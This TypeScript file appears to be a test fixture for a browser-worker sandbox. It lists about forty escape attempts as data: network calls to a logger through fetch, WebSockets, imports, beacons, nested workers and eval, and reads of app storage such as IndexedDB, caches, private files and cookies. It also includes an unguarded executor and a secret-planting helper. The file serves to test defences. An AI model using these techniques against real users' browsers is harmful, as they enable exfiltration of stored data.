// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
// Ways out of a worker, as data. Each text is the body of `run(to)`; `to` is an AttackTarget. An attack on the network has succeeded when
// the logger heard of it, one on the app's storage when it gives back something that holds SECRET.

export interface Attack {
  readonly name: string
  readonly aim: 'network' | 'storage'
  readonly body: string
}

export interface AttackTarget {
  /** Address at the logger that names this attack. */
  readonly hit: string
  /** The same as a path below the app's own origin. */
  readonly appHit: string
  readonly app: string
  readonly udp: string
  /** Made by the app's page, holds SECRET. */
  readonly blobUrl: string
}

export const SECRET = 'app-secret'

const network: Readonly<Record<string, string>> = {
  'n01 fetch': 'await fetch(to.hit)',
  'n02 fetch no-cors keepalive': "await fetch(to.hit, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
  'n03 synchronous XHR': "const x = new XMLHttpRequest(); x.open('GET', to.hit, false); x.send()",
  'n04 WebSocket':
    "await new Promise((ok, no) => { const s = new WebSocket(to.hit.replace('http', 'ws')); s.onopen = ok; s.onerror = no })",
  'n05 WebSocketStream': "await new WebSocketStream(to.hit.replace('http', 'ws')).opened",
  'n06 EventSource': 'await new Promise((ok) => { const s = new EventSource(to.hit); s.onopen = s.onerror = ok })',
  'n07 WebTransport': 'await new WebTransport(to.udp).ready',
  'n08 importScripts': 'importScripts(to.hit)',
  'n09 import http': 'await import(to.hit)',
  'n10 import data, which imports http': 'await import(`data:text/javascript,import "${to.hit}"`)',
  'n11 import blob, which imports http':
    "await import(URL.createObjectURL(new Blob([`import '${to.hit}'`], { type: 'text/javascript' })))",
  'n12 sendBeacon': 'navigator.sendBeacon(to.hit)',
  'n13 FontFace': "await new FontFace('x', `url(${to.hit})`).load()",
  'n14 worker from http': 'new Worker(to.appHit)',
  'n15 SharedWorker': 'new SharedWorker(to.appHit)',
  'n16 nested blob worker': 'new Worker(URL.createObjectURL(new Blob([`fetch("${to.hit}")`])))',
  'n17 nested data worker': "new Worker(`data:text/javascript,fetch('${to.hit}')`)",
  'n18 WebAssembly streaming': 'await WebAssembly.compileStreaming(fetch(to.hit))',
  'n20 cache.add': "const c = await caches.open('x'); await c.add(to.hit)",
  'n21 nested module worker':
    "new Worker(URL.createObjectURL(new Blob([`import '${to.hit}'`], { type: 'text/javascript' })), { type: 'module' })",
  'n22 fetch of a Request with redirect': "await fetch(new Request(to.hit, { redirect: 'follow', referrer: '' }))",
  'n26 import in eval': "await (0, eval)(`import('${to.hit}')`)",
  'n27 import in a made function': "await Function(`return import('${to.hit}')`)()",
  'n28 import in an async function made of another':
    "await (async () => {}).constructor(`await import('${to.hit}')`)()",
  's07 BroadcastChannel to the app': "new BroadcastChannel('app').postMessage(to.hit)",
}

const openDatabase =
  "const r = indexedDB.open('app'); const db = await new Promise((ok, no) => { r.onsuccess = () => ok(r.result); r.onerror = no })"
const readDatabase = `${openDatabase}
  const q = db.transaction('kept').objectStore('kept').getAll(); return await new Promise((ok) => { q.onsuccess = () => ok(q.result) })`

const storage: Readonly<Record<string, string>> = {
  's01 IndexedDB read': readDatabase,
  's02 IndexedDB list': 'return await indexedDB.databases()',
  's03 caches': "return await (await caches.match(to.app + '/cached')).text()",
  's04 origin private files':
    "const d = await navigator.storage.getDirectory(); return await (await (await d.getFileHandle('kept')).getFile()).text()",
  's08 BroadcastChannel from the app':
    "return await new Promise((ok) => { new BroadcastChannel('app').onmessage = (e) => ok(e.data) })",
  's09 locks': 'return (await navigator.locks.query()).held',
  's10 legacy file system':
    'const f = webkitRequestFileSystemSync(0, 1024); return f.root.createReader().readEntries().map((e) => e.name)',
  's12 fetch of the app with cookies':
    "return await (await fetch(to.app + '/secret', { credentials: 'include' })).text()",
  's13 blob of the app': 'return await (await fetch(to.blobUrl)).text()',
  's14 IndexedDB in a nested worker': `const text = 'async function run() {' + ${JSON.stringify(readDatabase)} + '} run().then(postMessage)'
    const w = new Worker(URL.createObjectURL(new Blob([text]))); return await new Promise((ok) => { w.onmessage = (e) => ok(e.data) })`,
  's15 IndexedDB by a prototype getter': `let p = self, g; while (!g) { p = Object.getPrototypeOf(p); g = Object.getOwnPropertyDescriptor(p, 'indexedDB')?.get }
    return await g.call(self).databases()`,
  's16 storage buckets': 'return await navigator.storageBuckets.keys()',
  's17 import of a blob of the app': 'return { ...(await import(to.blobUrl)) }',
}

export const ATTACKS: readonly Attack[] = [
  ...Object.entries(network).map(([name, body]) => ({ name, aim: 'network' as const, body })),
  ...Object.entries(storage).map(([name, body]) => ({ name, aim: 'storage' as const, body })),
]

/** The attack as a module an executor can load. */
export function printAttack({ body }: Attack): string {
  return `export async function run(to) { ${body} }`
}

/** A worker that is handed a port and runs modules sent to it, with all the powers the browser gives it where it stands. */
export const UNGUARDED_WORKER = `onmessage = ({ ports: [port] }) => {
  const late = () => new Promise((_, no) => setTimeout(no, 1500, 'late'))
  port.onmessage = async ({ data: { id, module, input } }) => {
    const url = URL.createObjectURL(new Blob([module], { type: 'text/javascript' }))
    try {
      const { run } = await import(url)
      port.postMessage({ id, ok: true, value: JSON.parse(JSON.stringify((await Promise.race([run(input), late()])) ?? null)) })
    } catch (error) {
      port.postMessage({ id, ok: false, value: String(error) })
    }
  }
}`

/** Runs in a page of the app's origin without a policy: leaves secrets in every store that the attacks look at. Gives the blob's address. */
export async function keepSecrets(secret: string): Promise<string> {
  const request = indexedDB.open('app')
  request.onupgradeneeded = () => request.result.createObjectStore('kept').put(secret, 1)
  await new Promise((resolve) => {
    request.onsuccess = resolve
  })
  indexedDB.open(`named-${secret}`)
  await (await caches.open('app')).put('/cached', new Response(secret))
  const directory = await navigator.storage.getDirectory()
  const writer = await (await directory.getFileHandle('kept', { create: true })).createWritable()
  await writer.write(secret)
  await writer.close()
  void navigator.locks.request(`lock-${secret}`, () => new Promise(() => {}))
  const buckets: { open(name: string): Promise<unknown> } | undefined = Reflect.get(navigator, 'storageBuckets')
  await buckets?.open(secret)
  const legacy: unknown = Reflect.get(window, 'webkitRequestFileSystem')
  if (typeof legacy === 'function') {
    await new Promise((resolve) => {
      legacy.call(window, 0, 1024, (system: { root: { getFile: (...rest: unknown[]) => void } }) =>
        system.root.getFile(secret, { create: true }, resolve, resolve),
      )
    })
  }
  const channel = new BroadcastChannel('app')
  channel.onmessage = ({ data }) => void fetch(data)
  setInterval(() => channel.postMessage(secret), 50)
  return URL.createObjectURL(new Blob([`export const kept = '${secret}'`], { type: 'text/javascript' }))
}
